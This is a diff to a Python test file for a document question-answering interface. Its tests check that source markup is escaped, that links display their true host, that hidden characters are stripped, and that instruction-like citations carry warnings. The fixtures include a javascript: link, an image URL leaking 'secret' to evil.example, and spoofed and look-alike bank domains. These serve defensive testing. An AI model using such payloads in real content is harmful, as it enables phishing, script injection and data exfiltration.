@@ -7,7 +7,7 @@ from datetime import UTC, datetime
 
 import pytest
 
-from pages.parts import adding, exchange, passage, prose, samples, shelf, talk, words
+from pages.parts import adding, exchange, passage, prose, question_line, samples, shelf, talk, words
 from pages.parts.asking import Asking
 from pages.parts.jobs import Job
 from rag_core.domain import Message, Sentence, Trace
@@ -75,13 +75,48 @@ def test_nothing_gives_no_blocks(text: str) -> None:
 
 
 def test_markup_of_documents_stays_text() -> None:
-    hostile = "![x](http://e.com/x.png) <img src=x> :material/home: $x$"
+    hostile = "![x](x.png) <img src=x> :material/home: $x$ [y](javascript:alert(1))"
     assert text_of(prose.blocks(hostile)) == [hostile]
+    hostile += " http://evil.example"
     label = words.plain(hostile)
     assert "\\!\\[x\\]\\(" in label
     assert "\\<img" in label
     assert ":material" not in label
     assert "http://" not in label
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ('See [the bank](https://bank.evil.example/a(b)?q=1 "t").', "See the bank{bank.evil.example}."),
+        ("![chart](http://evil.example/?q=secret)", "chart{image at evil.example, not loaded}"),
+        ("At https://plain.example/x.", "At https://plain.example/x."),
+        ("At https://bank.example@evil.example/x", "At https://bank.example@evil.example/x{evil.example}"),
+        ("[b](https://b\u0430nk.example)", "b{xn--bnk-6cd.example}"),
+        ("[b](http://[)", "b{an odd address}"),
+    ],
+    ids=["link", "image", "address", "user in front", "look-alike", "odd"],
+)
+def test_links_are_text_and_show_their_host(text: str, shown: str) -> None:
+    for sentences in ((), (Sentence(text, ()),)):
+        (block,) = prose.blocks(text, sentences)
+        drawn = "".join(run.get("text", f"{{{run.get('host')}}}") for run in block["runs"])
+        assert drawn == shown
+
+
+def test_what_nobody_sees_is_not_in_a_label() -> None:
+    assert words.plain("ig\u200bnore \u202eabc") == "ignore abc"
+
+
+def test_a_passage_that_instructs_is_marked_on_its_citation(library: FakeLibrary) -> None:
+    library.held = [a_document()]
+    (citation,) = an_answer().citations
+    suspect = replace(citation, instructs=True)
+    (source,) = exchange.whole("Why?", an_answer(citations=(suspect,)))["sources"]
+    assert "reads like an instruction" in source["warning"]
+    assert "reads like an instruction" in passage.cited(library, suspect, None)["warning"]  # type: ignore[arg-type]
+    assert not passage.cited(library, suspect, 3)["warning"]  # type: ignore[arg-type]
+    assert not passage.cited(library, citation, None)["warning"]  # type: ignore[arg-type]
 
 
 def test_an_answer_says_how_sure_it_is_and_what_was_left_out() -> None:
@@ -90,7 +125,9 @@ def test_an_answer_says_how_sure_it_is_and_what_was_left_out() -> None:
     assert data["facts"][0]["words"] == "High confidence"
     assert "0.82" in data["facts"][0]["detail"]
     assert len(data["notes"]) == 2
-    assert data["sources"] == [{"number": 1, "title": "Bridges", "page": "p. ii", "score": "cosine 0.71"}]
+    assert data["sources"] == [
+        {"number": 1, "title": "Bridges", "page": "p. ii", "score": "cosine 0.71", "warning": ""}
+    ]
     assert data["active"] == 1
 
 
@@ -130,6 +167,15 @@ def test_a_failure_that_was_asked_again_is_not_shown_twice() -> None:
     assert talk.settled([failed, done], None) == [done]
     assert talk.settled([done, other], Asking("a", "c", "And?", None)) == [done]
     assert talk.settled([failed, other], None) == [failed, other]
+
+
+def test_what_a_question_replaces_is_not_shown_while_it_is_answered() -> None:
+    done, next_one = Message("2", "Why?", NOW, answer=an_answer()), Message("3", "How?", NOW, answer=an_answer())
+    edited = Asking("a", "c", "When?", None, replaces="3")
+    assert talk.settled([done, next_one], edited) == [done]
+    assert talk.settled([done, next_one], replace(edited, replaces="2")) == []
+    refused = replace(edited, error=ModelUnavailable("No key."))
+    assert talk.settled([done, next_one], refused) == [done, next_one], "nothing took its place"
 
 
 def test_a_passage_of_a_picture(library: FakeLibrary) -> None:
@@ -173,12 +219,16 @@ def test_progress_in_words() -> None:
     assert stages == sorted(stages)
 
 
-def test_suggestions_are_the_samples_own_where_they_are() -> None:
+def test_the_samples_questions_are_those_of_documents_that_are_there() -> None:
     (question, *_) = samples.questions()
     own = a_document(question.gold[0].document)
-    assert question.text in samples.suggestions([own])
-    assert all("Bridges" in suggestion for suggestion in samples.suggestions([a_document()]))
-    assert samples.suggestions([]) == []
+    assert question in samples.questions_of([own])
+    assert samples.questions_of([a_document()]) == []
+
+
+def test_what_is_to_come_in_words() -> None:
+    assert question_line.coming_words(12, 1) == "12 documents can be searched, 1 more is coming in"
+    assert question_line.coming_words(0, 2800) == "No document can be searched yet, 2,800 are coming in"
 
 
 @pytest.mark.parametrize(
